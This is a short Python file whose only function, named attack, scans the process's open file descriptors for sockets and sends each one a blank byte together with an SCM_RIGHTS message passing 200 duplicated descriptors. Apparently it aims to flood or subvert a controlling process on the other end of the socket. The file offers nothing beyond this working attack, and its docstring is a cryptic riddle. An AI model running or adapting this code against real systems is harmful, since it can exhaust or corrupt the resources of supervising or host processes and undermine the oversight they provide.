import array
import os
import socket
import stat


def attack(controller):
    """Blanks may stand before an answer. As many go along with one as may."""
    many = array.array("i", [2] * 200)
    for number in range(64):
        try:
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
            with socket.socket(fileno=os.dup(number)) as line:
                line.sendmsg([b" "], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)])
        except OSError:
            pass  # not open
